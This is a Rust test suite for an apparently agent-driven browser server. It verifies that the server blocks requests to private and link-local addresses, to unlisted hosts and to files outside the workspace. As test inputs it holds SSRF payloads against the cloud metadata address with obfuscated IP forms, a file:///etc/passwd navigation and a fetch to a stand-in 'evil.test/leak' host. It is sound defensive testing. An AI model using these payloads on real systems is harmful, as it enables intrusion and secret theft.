//! Where browsers may go (A-design, threat 2): navigations, redirects, and whatever a page asks for.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used)]

mod common;

use common::apps::Stage;
use common::browsing::Agent;
use common::engines::{Engine, on_each_browser};
use common::{BINARY, CACHE, LIMIT};
use serde_json::{Value, json};
use testkit::mcp::{Revision, StdioClient};
use testkit::process::wait_until;
use testkit::site::{Response, Site};

on_each_browser![
    a_navigation_to_a_private_address_is_refused_with_the_rule_and_what_would_permit_it,
    a_redirect_to_a_private_address_is_refused_wherever_it_comes_from,
    what_a_page_asks_for_is_refused_and_told,
    a_name_that_leads_to_a_private_address_is_refused,
    with_a_list_only_it_and_this_machine_are_reached,
    with_strict_loopback_only_what_is_listed_is_reached_on_this_machine,
    with_strict_loopback_the_sessions_app_is_reached_after_a_restart_too,
    a_host_that_cannot_be_reached_is_told_as_such,
    a_page_of_the_workspace_leads_to_no_file_outside_of_it,
    a_sessions_end_leaves_no_port_behind,
];

/// That the call was refused by this rule, in all that an error tells.
fn assert_blocked(error: &Value, url: &str, rule: &str) {
    let error = &error["error"];
    assert_eq!(error["errorCode"], "BLOCKED_BY_POLICY", "{error}");
    assert_eq!(error["type"], "blocked_by_policy", "{error}");
    assert_eq!(error["url"], url, "{error}");
    assert!(error["rule"].as_str().unwrap().contains(rule), "{error}");
    assert!(error["message"].as_str().unwrap().contains(rule), "{error}");
    assert!(error["suggestion"].as_str().unwrap().contains("ALLOWED_HOSTS"), "{error}");
}

#[test]
fn a_navigation_to_a_private_address_is_refused_with_the_rule_and_what_would_permit_it() {
    let mut agent = Agent::on("<h1>App</h1>");
    for (typed, url, rule) in [
        ("http://10.0.0.1/x", "http://10.0.0.1/x", "private range 10.0.0.0/8"),
        ("https://192.168.0.1", "https://192.168.0.1/", "private range 192.168.0.0/16"),
        ("http://169.254.169.254/latest/", "http://169.254.169.254/latest/", "169.254.0.0/16"),
        ("http://2852039166/", "http://169.254.169.254/", "169.254.0.0/16"),
        ("http://0xa9.254.43518/", "http://169.254.169.254/", "169.254.0.0/16"),
        ("http://[::ffff:10.0.0.1]/", "http://[::ffff:a00:1]/", "private range 10.0.0.0/8"),
        ("http://[fd00:ec2::254]/", "http://[fd00:ec2::254]/", "fc00::/7"),
        ("http://0.0.0.0:1/", "http://0.0.0.0:1/", "0.0.0.0/8"),
    ] {
        assert_blocked(&agent.failure("navigate", &json!({ "url": typed })), url, rule);
        let tab = agent.failure("tabs", &json!({"action": "new", "url": typed}));
        assert_blocked(&tab, url, rule);
    }
    let here = agent.text("snapshot", &json!({}));
    assert!(here.contains("App"), "the page stays: {here}");
    let outside = agent.failure("navigate", &json!({"url": "file:///etc/passwd"}));
    assert_eq!(outside["error"]["errorCode"], "PATH_ESCAPE", "{outside}");
}

#[test]
fn a_redirect_to_a_private_address_is_refused_wherever_it_comes_from() {
    let mut agent = Agent::start(&[]);
    for target in ["http://10.0.0.1/x", "https://10.0.0.1/y", "http://169.254.169.254/latest/meta-data/"] {
        let rule = if target.contains("169") { "169.254.0.0/16" } else { "private range 10.0.0.0/8" };
        agent.site.route("/away", move |_| Response::redirect(target));
        let url = agent.site.url("/away");
        assert_blocked(&agent.failure("navigate", &json!({ "url": url })), target, rule);
        // The script's way, after the page has come.
        agent.site.page("/script", &format!("<h1>Here</h1><a href='{target}'>away</a>"));
        agent.text("navigate", &json!({"url": agent.site.url("/script")}));
        let told = agent.text("click", &json!({"selector": "a"}));
        assert!(told.contains("blocked_by_policy") && told.contains(rule), "{told}");
    }
}

#[test]
fn what_a_page_asks_for_is_refused_and_told() {
    let mut agent = Agent::start(&[]);
    agent.site.page(
        "/",
        "<h1>App</h1><img src='http://10.0.0.1/image.png'><iframe src='http://10.0.0.2/frame'></iframe>
         <script>
         window.ask = async (url) => { try { await fetch(url, {mode: 'no-cors'}); return 'came' } catch { return 'failed' } };
         window.socket = (url) => new Promise((done) => {
             const socket = new WebSocket(url);
             socket.onopen = () => done('open');
             socket.onerror = () => done('failed');
         });
         </script>",
    );
    agent.site.route("/to-private", |_| Response::redirect("http://10.0.0.4/by-redirect"));
    let told = agent.text("navigate", &json!({"url": agent.site.url("/")}));
    assert!(told.contains("App"), "{told}");
    for line in [
        "blocked_by_policy: http://10.0.0.1/image.png (private range 10.0.0.0/8)",
        "blocked_by_policy: http://10.0.0.2/frame (private range 10.0.0.0/8)",
    ] {
        assert!(told.contains(line), "{line}: {told}");
    }
    let script = "async () => [await ask('http://169.254.169.254/latest'), await ask('https://10.0.0.3/'), \
                  await ask('/to-private'), await socket('ws://10.0.0.5:8080/'), await socket('wss://10.0.0.6/')]";
    let told = agent.text("evaluate", &json!({ "script": script }));
    for line in [
        "blocked_by_policy: http://169.254.169.254/latest (link-local range",
        "blocked_by_policy: 10.0.0.3:443 (private range 10.0.0.0/8)",
        "blocked_by_policy: http://10.0.0.4/by-redirect (private range 10.0.0.0/8)",
        "blocked_by_policy: 10.0.0.6:443 (private range 10.0.0.0/8)",
    ] {
        assert!(told.contains(line), "{line}: {told}");
    }
    // WebKit asks its proxy for the socket itself, the others for a tunnel.
    let socket = ["10.0.0.5:8080", "ws://10.0.0.5:8080/"];
    let socket = socket.map(|what| format!("blocked_by_policy: {what} (private range 10.0.0.0/8)"));
    assert!(socket.iter().any(|line| told.contains(line)), "{told}");
    assert!(!told.contains("\"open\""), "{told}");
    let later = agent.text("snapshot", &json!({}));
    assert!(!later.contains("blocked_by_policy"), "each is told once: {later}");
}

/// A server that finds these lines in the system's list of hosts. Mounting is root's, as in container.rs.
fn with_hosts(lines: &str) -> Agent {
    let workspace = tempfile::tempdir().unwrap();
    let hosts = workspace.path().join("hosts");
    std::fs::write(&hosts, format!("127.0.0.1 localhost\n{lines}\n")).unwrap();
    let script = "mount --bind \"$0\" /etc/hosts && exec \"$@\"";
    let browser = Engine::played().word();
    let namespace = ["--mount", "--propagation", "private", "sh", "-c", script, hosts.to_str().unwrap()];
    let server = [BINARY, "--headless", "--tools", "browser", "--browser", browser];
    let args = [&namespace[..], &server[..]].concat();
    let (program, args) = match rustix::process::geteuid().is_root() {
        true => ("unshare", args),
        false => ("sudo", [&["--non-interactive", "--preserve-env", "unshare"], &args[..]].concat()),
    };
    let mut client = StdioClient::start(program, &args, &[CACHE], workspace.path()).unwrap();
    client.initialize(Revision::V2025_11_25).unwrap();
    Agent { client, site: Site::start().unwrap(), workspace }
}

#[test]
fn a_name_that_leads_to_a_private_address_is_refused() {
    let mut agent = with_hosts("10.77.0.9 inside.test\n127.0.0.1 dev.test\n169.254.169.254 metadata.test");
    for (url, address, rule) in [
        ("http://inside.test/x", "10.77.0.9", "private range 10.0.0.0/8"),
        ("https://inside.test/", "10.77.0.9", "private range 10.0.0.0/8"),
        ("http://metadata.test:8080/", "169.254.169.254", "169.254.0.0/16"),
    ] {
        let error = agent.failure("navigate", &json!({ "url": url }));
        assert_blocked(&error, url, rule);
        assert_eq!(error["error"]["address"], address, "{error}");
    }
    agent.site.page("/", "<h1>By another name</h1>");
    let told = agent.text("navigate", &json!({"url": agent.site.url_on("dev.test", "/")}));
    assert!(told.contains("By another name"), "{told}");
}

#[test]
fn with_a_list_only_it_and_this_machine_are_reached() {
    let mut agent = Agent::start_in(&[], &[("ALLOWED_HOSTS", "example.test, 10.0.0.0/8:8080")]);
    let told = agent.visit("<h1>App</h1>");
    assert!(told.contains("App"), "{told}");
    for url in ["http://1.1.1.1/", "https://other.test/", "http://10.0.0.1/", "http://www.example.test/"] {
        assert_blocked(
            &agent.failure("navigate", &json!({ "url": url })),
            url,
            "not listed in ALLOWED_HOSTS",
        );
    }
    let script = "async () => { try { await fetch('http://evil.test/leak') } catch {} return 1 }";
    let told = agent.text("evaluate", &json!({ "script": script }));
    assert!(told.contains("http://evil.test/leak (not listed in ALLOWED_HOSTS)"), "{told}");
}

#[test]
fn with_strict_loopback_only_what_is_listed_is_reached_on_this_machine() {
    let (listed, canary) = (Site::start().unwrap(), Site::start().unwrap());
    let allowed = listed.address().to_string();
    let mut agent = Agent::start(&["--strict-loopback", "--allowed-hosts", &allowed]);
    listed.page("/", "<h1>Listed</h1>");
    canary.page("/", "<h1>Canary</h1>");
    let told = agent.text("navigate", &json!({"url": listed.url("/")}));
    assert!(told.contains("Listed"), "{told}");
    for host in ["127.0.0.1", "localhost", "127.1", "[::1]", "app.localhost"] {
        let url = url::Url::parse(&canary.url_on(host, "/")).unwrap();
        let error = agent.failure("navigate", &json!({"url": url.as_str()}));
        assert_blocked(&error, url.as_str(), "strict loopback");
    }
    listed.route("/away", {
        let there = canary.url("/");
        move |_| Response::redirect(&there)
    });
    let error = agent.failure("navigate", &json!({"url": listed.url("/away")}));
    assert_blocked(&error, &canary.url("/"), "strict loopback");
    assert_eq!(canary.requests().len(), 0, "nothing came through");
}

#[test]
fn with_strict_loopback_the_sessions_app_is_reached_after_a_restart_too() {
    let canary = Site::start().unwrap();
    let mut stage = Stage::open(&["--strict-loopback"]);
    stage.start();
    stage.text("navigate", &json!({"url": "/"}));
    stage.json("restart_server", &json!({}));
    stage.text("navigate", &json!({"url": "/"}));
    let error = stage.failure("navigate", &json!({"url": canary.url("/")}));
    assert_blocked(&error, &canary.url("/"), "strict loopback");
    assert_eq!(canary.requests().len(), 0);
    stage.close();
}

#[test]
fn a_host_that_cannot_be_reached_is_told_as_such() {
    let mut agent = Agent::start(&[]);
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    for (url, reason) in [
        (format!("http://{closed}/"), "CONNECTION_REFUSED"),
        (format!("http://127.0.0.9:{}/", closed.port()), "CONNECTION_REFUSED"),
        ("http://no-such-host.invalid/".to_owned(), "NAME_NOT_RESOLVED"),
        ("https://no-such-host.invalid/".to_owned(), "NAME_NOT_RESOLVED"),
    ] {
        let error = agent.failure("navigate", &json!({ "url": url }));
        assert_eq!(error["error"]["errorCode"], "NAVIGATION_FAILED", "{url}: {error}");
        assert!(error["error"]["reason"].as_str().unwrap().contains(reason), "{url}: {error}");
    }
}

#[test]
fn a_page_of_the_workspace_leads_to_no_file_outside_of_it() {
    let mut agent = Agent::start(&[]);
    let secret = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret.path(), "the secret of the machine").unwrap();
    let there = format!("file://{}", secret.path().display());
    agent.write("link.html", &format!("<h1>Mine</h1><a href='{there}'>away</a>"));
    agent.write("frame.html", &format!("<h1>Mine</h1><iframe src='{there}'></iframe>"));
    let root = agent.workspace.path().canonicalize().unwrap();
    let page = |name: &str| json!({"url": format!("file://{}/{name}", root.display())});
    let told = agent.text("navigate", &page("link.html"));
    assert!(told.contains("Mine"), "{told}");
    let by_link = agent.call("click", &json!({"selector": "a"})).text();
    let by_frame = agent.call("navigate", &page("frame.html")).text();
    for told in [by_link, by_frame, agent.call("snapshot", &json!({})).text()] {
        assert!(!told.contains("secret of the machine"), "{told}");
    }
    let told = agent.text("navigate", &page("link.html"));
    assert!(told.contains("Mine"), "the session goes on: {told}");
}

/// The ports that a process listens on.
fn listening(pid: u32) -> usize {
    let links = std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten();
    let links = links.filter_map(|entry| std::fs::read_link(entry.path()).ok());
    let own: Vec<String> = links.map(|link| link.to_string_lossy().into_owned()).collect();
    let table = std::fs::read_to_string(format!("/proc/{pid}/net/tcp")).unwrap();
    let fields = table.lines().map(|line| line.split_whitespace().collect::<Vec<_>>());
    let listening = fields.filter(|fields| fields.get(3) == Some(&"0A"));
    listening.filter(|fields| own.contains(&format!("socket:[{}]", fields[9]))).count()
}

#[test]
fn a_sessions_end_leaves_no_port_behind() {
    let mut agent = Agent::start(&[]);
    let pid = agent.client.server().pid();
    let before = listening(pid);
    let (first, second) = (agent.session(&json!({})), agent.session(&json!({})));
    assert_eq!(listening(pid), before + 2, "each session has its own");
    agent.text("close_session", &json!({ "sessionId": first }));
    let one = wait_until(LIMIT, || (listening(pid) == before + 1).then_some(()));
    assert!(one.is_some(), "the other's stays");
    agent.text("close_session", &json!({ "sessionId": second }));
    let none = wait_until(LIMIT, || (listening(pid) == before).then_some(()));
    assert!(none.is_some(), "{} ports are left", listening(pid) - before);
}

#[test]
fn a_list_that_cannot_be_read_and_a_boundary_that_would_not_hold_end_the_start() {
    for flags in [
        &["--allowed-hosts", "http://a.test"][..],
        &["--allowed-hosts", " , "],
        &["--allowed-hosts", "a.test", "--cdp-endpoint", "ws://127.0.0.1:1/"],
        &["--strict-loopback", "--cdp-endpoint", "ws://127.0.0.1:1/"],
    ] {
        let mut client = common::on_pipes(flags);
        assert_eq!(client.wait_exit(LIMIT).unwrap().code(), Some(2), "{flags:?}");
    }
}
